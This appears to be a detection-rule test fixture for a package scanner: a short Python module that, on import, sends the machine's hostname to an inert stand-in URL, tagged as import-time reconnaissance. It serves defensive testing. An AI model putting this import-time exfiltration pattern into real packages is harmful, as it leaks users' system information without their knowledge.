# canary-test: path=mlc.py artifact=wheel
# A function that posts, called at import with its URL (inert host).
import json
import socket
import urllib.request


def send_system_info(url):
    data = {"hostname": socket.gethostname()}
    urllib.request.urlopen(urllib.request.Request(url, data=json.dumps(data).encode()))


send_system_info("https://example.invalid/json?prefix=pip_%s" % "inert")
# ruleid: MODULE_LEVEL_CALL_WITH_URL, IMPORT_TIME_RECON
